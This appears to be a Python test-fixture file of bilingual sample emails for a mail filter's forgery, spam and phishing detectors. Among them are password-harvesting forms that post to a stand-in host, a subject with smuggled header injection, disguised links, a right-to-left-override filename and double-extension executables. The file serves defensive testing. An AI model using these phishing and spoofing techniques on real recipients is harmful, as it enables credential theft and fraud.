"""Messages that hide, borrow or forge where they come from, or that nobody can stop."""

from __future__ import annotations

from tests.mail.letters import Case, html, letter, mixed, named, report, said

FAILED = {"dmarc": "fail", "dkim": "fail", "spf": "fail"}
UNPROVEN = said("spf=none", "dkim=none", "dmarc=none")
SALE_EN = "Summer sale! Up to 70% off, free shipping, today only. Buy now at https://lampes.example/sale"
SALE_FR = "Soldes d'été! Jusqu'à 70 % de rabais, livraison gratuite, aujourd'hui seulement. Achetez vite : https://lampes.example/soldes"
FRIENDS = ", ".join(f"ami{n}@voisins{n}.example" for n in range(30))
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\0" * 40
PASSWORD_PAGE = (
    b"<html><form action='https://collecte.example/x'><input name=u><input type=password name=p></form></html>"
)


def forwarded(name: str, mark: str, sent: str) -> str:
    levels = "".join(
        f"\n---------- {mark} ---------\n{sent} {n}\n" + ", ".join(f"{name}{n}{k}@chaine.example" for k in range(6))
        for n in range(6)
    )
    return f"!!!{levels}\n"


def case(name: str, signal: str, en: tuple[str, ...], fr: tuple[str, ...], **more: str) -> Case:
    return Case(name, signal, letter(*en, **more), letter(*fr, **more))


FORGED = (
    case(
        "dmarc fails against a strict policy",
        "mail.forged",
        (
            "Dexero <billing@dexero.example>",
            "Your invoice",
            "Please pay today.",
            f"Authentication-Results: {report('dexero.example', **FAILED)}",
        ),
        (
            "Dexero <facturation@dexero.example>",
            "Votre facture",
            "Payez aujourd'hui.",
            f"Authentication-Results: {report('dexero.example', **FAILED)}",
        ),
    ),
    case(
        "dmarc fails against a policy of watching",
        "mail.forged",
        (
            "Anna <anna@fleuriste.example>",
            "Hello",
            "See you at noon.",
            f"Authentication-Results: {report('fleuriste.example', policy='NONE', **FAILED)}",
        ),
        (
            "Anna <anna@fleuriste.example>",
            "Allo",
            "À midi.",
            f"Authentication-Results: {report('fleuriste.example', policy='NONE', **FAILED)}",
        ),
    ),
    case(
        "only spf and dkim are told and both fail",
        "mail.forged",
        (
            "Bank <info@caisse.example>",
            "Notice",
            "Read this.",
            said("spf=fail smtp.mailfrom=info@caisse.example", "dkim=fail header.d=caisse.example"),
        ),
        (
            "Caisse <info@caisse.example>",
            "Avis",
            "Lisez ceci.",
            said("spf=fail smtp.mailfrom=info@caisse.example", "dkim=fail header.d=caisse.example"),
        ),
    ),
    case(
        "spf alone fails for the sender's own path",
        "mail.forged",
        (
            "Ann <ann@verger.example>",
            "Apples",
            "New prices.",
            said("spf=fail smtp.mailfrom=ann@verger.example"),
        ),
        (
            "Anne <anne@verger.example>",
            "Pommes",
            "Nouveaux prix.",
            said("spf=fail smtp.mailfrom=anne@verger.example"),
        ),
    ),
    case(
        "a stranger's domain passes and the sender's fails",
        "mail.forged",
        (
            "City <tax@ville.example>",
            "Tax",
            "Due now.",
            said(
                "dkim=pass header.d=envoi.example",
                "spf=pass smtp.mailfrom=a@envoi.example",
                "dmarc=fail (p=QUARANTINE) header.from=ville.example",
            ),
        ),
        (
            "Ville <taxes@ville.example>",
            "Taxes",
            "À payer.",
            said(
                "dkim=pass header.d=envoi.example",
                "spf=pass smtp.mailfrom=a@envoi.example",
                "dmarc=fail (p=QUARANTINE) header.from=ville.example",
            ),
        ),
    ),
    case(
        "the forger adds a report of his own that passes",
        "mail.forged",
        (
            "Dexero <aide@dexero.example>",
            "Hello",
            "Read this.",
            f"Authentication-Results: {report('dexero.example', **FAILED)}",
            f"Authentication-Results: {report('dexero.example', server='mx.other.example')}",
        ),
        (
            "Dexero <aide@dexero.example>",
            "Allo",
            "Lisez.",
            f"Authentication-Results: {report('dexero.example', **FAILED)}",
            f"Authentication-Results: {report('dexero.example', server='mx.other.example')}",
        ),
    ),
    case(
        "two From fields name two people",
        "mail.forged",
        (
            "Marc <marc@atelier.example>",
            "Meeting",
            "At ten.",
            "From: Chief <chief@bureau.example>",
            "From: Marc <x@ailleurs.example>",
        ),
        (
            "Marc <marc@atelier.example>",
            "Réunion",
            "À dix heures.",
            "From: Chef <chef@bureau.example>",
            "From: Marc <x@ailleurs.example>",
        ),
        host="atelier.example",
    ),
    case(
        "a field is injected into the subject",
        "mail.forged",
        ("Lou <lou@atelier.example>", "x", "Hello.", "Subject: =?utf-8?q?Hello=0D=0ABcc:_all@atelier.example?="),
        ("Lou <lou@atelier.example>", "x", "Allo.", "Subject: =?utf-8?q?Allo=0D=0ABcc:_tous@atelier.example?="),
    ),
    case(
        "times run backward by days",
        "mail.forged",
        (
            "Kim <kim@atelier.example>",
            "Plans",
            "Attached.",
            "Received: from a by mx.dexero.example; Mon, 05 Jan 2026 10:00:00 -0500",
            "Received: from b by relais.example; Fri, 09 Jan 2026 10:00:00 -0500",
        ),
        (
            "Kim <kim@atelier.example>",
            "Plans",
            "Ci-joint.",
            "Received: from a by mx.dexero.example; Mon, 05 Jan 2026 10:00:00 -0500",
            "Received: from b by relais.example; Fri, 09 Jan 2026 10:00:00 -0500",
        ),
    ),
    case(
        "our own server is named below a stranger's",
        "mail.forged",
        (
            "Pat <pat@magasin.example>",
            "Offer",
            "Look.",
            "Received: from a by mx.inconnu.example; Mon, 05 Jan 2026 10:00:00 -0500",
            "Received: from c by mx.dexero.example; Mon, 05 Jan 2026 09:59:00 -0500",
        ),
        (
            "Pat <pat@magasin.example>",
            "Offre",
            "Voyez.",
            "Received: from a by mx.inconnu.example; Mon, 05 Jan 2026 10:00:00 -0500",
            "Received: from c by mx.dexero.example; Mon, 05 Jan 2026 09:59:00 -0500",
        ),
    ),
    case(
        "nobody sends it",
        "mail.sender_hidden",
        ("", "You will like this", "Open it.", "From:"),
        ("", "Ceci va vous plaire", "Ouvrez.", "From:"),
    ),
    case(
        "the sender is a name without an address",
        "mail.sender_hidden",
        ("x", "Hello", "Guess who.", "From: Undisclosed Sender <>"),
        ("x", "Allo", "Devinez qui.", "From: Expéditeur masqué <>"),
        host="relais.example",
    ),
    case(
        "the sender's host cannot exist",
        "mail.sender_hidden",
        ("Lea <lea@nowhere.invalid>", "Hello", "It is me.", said("dmarc=none")),
        ("Léa <lea@nulle-part.invalid>", "Allo", "C'est moi.", said("dmarc=none")),
    ),
    case(
        "failures go nowhere",
        "mail.sender_hidden",
        ("Sam <sam@ventes.example>", "A word", "Call me.", "Return-Path: <>"),
        ("Sam <sam@ventes.example>", "Un mot", "Appelez-moi.", "Return-Path: <>"),
    ),
    case(
        "answers go to a free address that looks like the sender's",
        "mail.reply_elsewhere",
        (
            "Paul Roy <paul.roy@constructions.example>",
            "Transfer",
            "I need a transfer done today.",
            "Reply-To: paul.roy.constructions@gmail.com",
            UNPROVEN,
        ),
        (
            "Paul Roy <paul.roy@constructions.example>",
            "Virement",
            "J'ai besoin d'un virement aujourd'hui.",
            "Reply-To: paul.roy.constructions@gmail.com",
            UNPROVEN,
        ),
    ),
    case(
        "answers go to a look-alike of the sender's site",
        "mail.reply_elsewhere",
        (
            "Accounts <accounts@verrerie.example>",
            "New bank details",
            "Use these from now on.",
            "Reply-To: accounts@verrerie-accounts.example",
        ),
        (
            "Comptes <comptes@verrerie.example>",
            "Nouvelles coordonnées",
            "Utilisez-les désormais.",
            "Reply-To: comptes@verrerle.example",
        ),
    ),
    case(
        "answers go to a free address of nobody known",
        "mail.reply_elsewhere",
        (
            "Mrs Lane <m.lane@notaires.example>",
            "Inheritance",
            "Write to me in private.",
            "Reply-To: barrister.office77@outlook.com",
            UNPROVEN,
        ),
        (
            "Me Lane <m.lane@notaires.example>",
            "Succession",
            "Écrivez-moi en privé.",
            "Reply-To: cabinet.privee77@outlook.com",
            UNPROVEN,
        ),
    ),
    case(
        "the name holds another address",
        "mail.display_name",
        (named("support@caisse.example", "x@envoi-rapide.example"), "Your account", "Open the attached page."),
        (named("soutien@caisse.example", "x@envoi-rapide.example"), "Votre compte", "Ouvrez la page jointe."),
    ),
    case(
        "the name is the operator's with a role",
        "mail.display_name",
        (named("Dexero Support", "help@boites.example"), "Your mailbox", "It is full."),
        (named("Équipe Dexero", "aide@boites.example"), "Votre boîte", "Elle est pleine."),
    ),
    case(
        "the name is the operator's in other letters",
        "mail.display_name",
        (named("Dехеrо", "help@boites.example"), "Your mailbox", "It is full."),
        (named("Dехеrо", "aide@boites.example"), "Votre boîte", "Elle est pleine."),
    ),
    case(
        "the name is a bank's and the address a stranger's",
        "mail.display_name",
        (named("Desjardins", "x9@acces-securise.example"), "Deposit", "Accept it."),
        (named("Desjardins", "x9@acces-securise.example"), "Dépôt", "Acceptez-le."),
    ),
    case(
        "the sender's host is a slip away from the operator's",
        "mail.display_name",
        ("Billing <billing@dexer0.example>", "Invoice", "Attached."),
        ("Facturation <facturation@dexero-securite.example>", "Facture", "Ci-jointe."),
    ),
    case(
        "bulk with things to buy and no way out",
        "mail.unsubscribe_missing",
        ("Lamps <hello@lampes.example>", "Summer sale", SALE_EN, "Precedence: bulk"),
        ("Lampes <allo@lampes.example>", "Soldes d'été", SALE_FR, "Precedence: bulk"),
    ),
    case(
        "a campaign's fields and no way out",
        "mail.unsubscribe_missing",
        ("Lamps <hello@lampes.example>", "Clearance", SALE_EN, "X-Campaign-ID: 77", "Feedback-ID: 77:lampes"),
        ("Lampes <allo@lampes.example>", "Liquidation", SALE_FR, "X-Campaign-ID: 77", "Feedback-ID: 77:lampes"),
    ),
    case(
        "an offer to thirty strangers",
        "mail.unsubscribe_missing",
        ("Lamps <hello@lampes.example>", "Only today", SALE_EN),
        ("Lampes <allo@lampes.example>", "Aujourd'hui", SALE_FR),
        to=FRIENDS,
    ),
    case(
        "an offer to nobody who is shown",
        "mail.recipients_hidden",
        ("Lamps <hello@lampes.example>", "Only today", SALE_EN),
        ("Lampes <allo@lampes.example>", "Aujourd'hui", SALE_FR),
        to="undisclosed-recipients:;",
    ),
    case(
        "an offer with the blind copies left in",
        "mail.recipients_hidden",
        ("Lamps <hello@lampes.example>", "Only today", SALE_EN, f"Bcc: {FRIENDS}"),
        ("Lampes <allo@lampes.example>", "Aujourd'hui", SALE_FR, f"Bcc: {FRIENDS}"),
    ),
    case(
        "handed on six times with everybody's address",
        "mail.chain",
        (
            "Jo <jo@voisins.example>",
            "Fwd: Fwd: FW: read this",
            forwarded("friend", "Forwarded message", "From: friend"),
        ),
        ("Jo <jo@voisins.example>", "TR: TR: Fwd: à lire", forwarded("ami", "Message transféré", "De : ami")),
    ),
    case(
        "a chain in the old style with a crowd",
        "mail.chain",
        (
            "Jo <jo@voisins.example>",
            "Fwd: luck",
            "-----Original Message-----\nx\n-----Original Message-----\ny\n-----Original Message-----\n",
        ),
        (
            "Jo <jo@voisins.example>",
            "Tr : chance",
            "-----Message d'origine-----\nx\n-----Message d'origine-----\ny\n-----Message d'origine-----\n",
        ),
        to=FRIENDS,
    ),
    case(
        "a form for the password stands in the mail",
        "mail.phishing",
        (
            "Post <post@colis.example>",
            "Parcel",
            html(
                "<p>Sign in:</p><form action='https://collecte.example/p'><input name=u><input type=password name=p></form>"
            )[1],
            html("")[0],
        ),
        (
            "Poste <poste@colis.example>",
            "Colis",
            html(
                "<p>Connectez-vous :</p><form action='https://collecte.example/p'><input name=u><input type=password name=p></form>"
            )[1],
            html("")[0],
        ),
    ),
    case(
        "a borrowed name and a link that shows another host",
        "mail.phishing",
        (
            named("Dexero Support", "x@boites.example"),
            "Locked",
            html("<a href='http://203.0.113.9/login'>https://dexero.example/login</a>")[1],
            html("")[0],
        ),
        (
            named("Soutien Dexero", "x@boites.example"),
            "Verrouillé",
            html("<a href='http://203.0.113.9/connexion'>https://dexero.example/connexion</a>")[1],
            html("")[0],
        ),
    ),
    case(
        "a forged sender and a look-alike link",
        "mail.phishing",
        (
            "Dexero <info@dexero.example>",
            "Sign in",
            html("<a href='https://dexero-login.example/x'>Sign in</a>")[1],
            html("")[0],
            f"Authentication-Results: {report('dexero.example', **FAILED)}",
        ),
        (
            "Dexero <info@dexero.example>",
            "Connexion",
            html("<a href='https://dexero-connexion.example/x'>Se connecter</a>")[1],
            html("")[0],
            f"Authentication-Results: {report('dexero.example', **FAILED)}",
        ),
    ),
    case(
        "a host before the at sign and answers led astray",
        "mail.phishing",
        (
            "Paul <paul@constructions.example>",
            "Document",
            html("<a href='https://constructions.example@203.0.113.5/d'>Read</a>")[1],
            html("")[0],
            "Reply-To: paul.constructions@gmail.com",
        ),
        (
            "Paul <paul@constructions.example>",
            "Document",
            html("<a href='https://constructions.example@203.0.113.5/d'>Lire</a>")[1],
            html("")[0],
            "Reply-To: paul.constructions@gmail.com",
        ),
    ),
    case(
        "a program with two endings",
        "mail.attachment",
        (
            "Ned <ned@livres.example>",
            "Invoice",
            mixed("See attached.", ("application/octet-stream", "invoice.pdf.exe", b"MZ\x90"))[1],
            mixed("")[0],
        ),
        (
            "Ned <ned@livres.example>",
            "Facture",
            mixed("Voir la pièce jointe.", ("application/octet-stream", "facture.pdf.exe", b"MZ\x90"))[1],
            mixed("")[0],
        ),
    ),
    case(
        "a name that is written backwards",
        "mail.attachment",
        (
            "Ned <ned@livres.example>",
            "Photos",
            mixed("Look!", ("application/octet-stream", "photo_\u202egpj.scr", b"MZ"))[1],
            mixed("")[0],
        ),
        (
            "Ned <ned@livres.example>",
            "Photos",
            mixed("Regarde!", ("application/octet-stream", "photo_\u202egpj.scr", b"MZ"))[1],
            mixed("")[0],
        ),
    ),
    case(
        "a program under a picture's name",
        "mail.attachment",
        (
            "Ned <ned@livres.example>",
            "Photo",
            mixed("Look!", ("image/jpeg", "holiday.jpg", b"MZ\x90\0"))[1],
            mixed("")[0],
        ),
        (
            "Ned <ned@livres.example>",
            "Photo",
            mixed("Regarde!", ("image/jpeg", "vacances.jpg", b"MZ\x90\0"))[1],
            mixed("")[0],
        ),
    ),
    case(
        "a page that asks for a password is attached",
        "mail.attachment",
        (
            "Ned <ned@livres.example>",
            "Voice message",
            mixed("Listen.", ("text/html", "voice.html", PASSWORD_PAGE))[1],
            mixed("")[0],
        ),
        (
            "Ned <ned@livres.example>",
            "Message vocal",
            mixed("Écoutez.", ("text/html", "vocal.html", PASSWORD_PAGE))[1],
            mixed("")[0],
        ),
    ),
    case(
        "a page that says to be a document",
        "mail.attachment",
        (
            "Ned <ned@livres.example>",
            "Contract",
            mixed("Sign.", ("application/pdf", "contract.pdf", PASSWORD_PAGE))[1],
            mixed("")[0],
        ),
        (
            "Ned <ned@livres.example>",
            "Contrat",
            mixed("Signez.", ("application/pdf", "contrat.pdf", PASSWORD_PAGE))[1],
            mixed("")[0],
        ),
    ),
)
